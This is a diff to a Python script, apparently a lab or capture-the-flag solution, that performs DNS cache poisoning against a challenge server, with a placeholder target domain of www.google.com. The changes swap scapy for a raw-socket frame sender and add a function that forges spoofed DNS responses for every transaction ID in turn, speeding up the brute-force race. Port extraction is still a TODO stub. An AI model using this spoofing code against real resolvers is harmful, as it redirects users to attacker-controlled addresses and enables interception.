@@ -1,8 +1,8 @@
 #!/usr/bin/env python3
 from pwn import connect
-from scapy.all import IP, UDP, Raw, send
 from typing import Optional
-from utils import build_response_packet, RecordType, ResponseCode
+from utils import build_response_packet, ResponseTemplate, RecordType, ResponseCode
+from rawpacket import FrameSender, FrameTemplate, build_frame
 
 # TODO: Configure these constants
 TARGET_DOMAIN = "www.google.com"
@@ -20,6 +20,15 @@ def extract_port(output: str) -> int:
     # TODO: Extract the source port from the server's output
     pass
 
+_frame_sender: Optional[FrameSender] = None
+
+def get_frame_sender() -> FrameSender:
+    # one raw socket for the whole run instead of one per packet
+    global _frame_sender
+    if _frame_sender is None:
+        _frame_sender = FrameSender()
+    return _frame_sender
+
 def send_dns_response(
     src_ip: str,    dst_ip: str,
     src_port: int,  dst_port: int,
@@ -40,12 +49,24 @@ def send_dns_response(
         auth_ip=auth_ip
     )
 
-    ip_layer = IP(src=src_ip, dst=dst_ip)
-    udp_layer = UDP(sport=src_port, dport=dst_port)
-    raw_layer = Raw(load=response_packet)
+    # same bytes as IP(src=src_ip, dst=dst_ip) / UDP(sport=src_port, dport=dst_port) / Raw(load=response_packet)
+    packet = build_frame(src_ip, dst_ip, src_port, dst_port, response_packet)
+    get_frame_sender().send_frame(packet)
 
-    packet = ip_layer / udp_layer / raw_layer
-    send(packet, verbose=0)
+def send_dns_responses(
+    src_ip: str,    dst_ip: str,
+    src_port: int,  dst_port: int,
+    domain: str,
+    qtype: RecordType,
+    answer: str,
+    ttl: int,
+    auth_ip: Optional[str] = None,
+    transaction_ids: range = range(MAX_TRANSACTION_ID + 1)
+) -> int:
+    # one frame per transaction id, built once; only the TID and UDP checksum differ
+    response = ResponseTemplate(domain, qtype, ResponseCode.NOERROR, answer, ttl, auth_ip)
+    frames = FrameTemplate(src_ip, dst_ip, src_port, dst_port, response).batch(transaction_ids)
+    return get_frame_sender().send_batch(frames, dst_ip)
 
 def main():
     server = connect(SERVER_IP, 48765)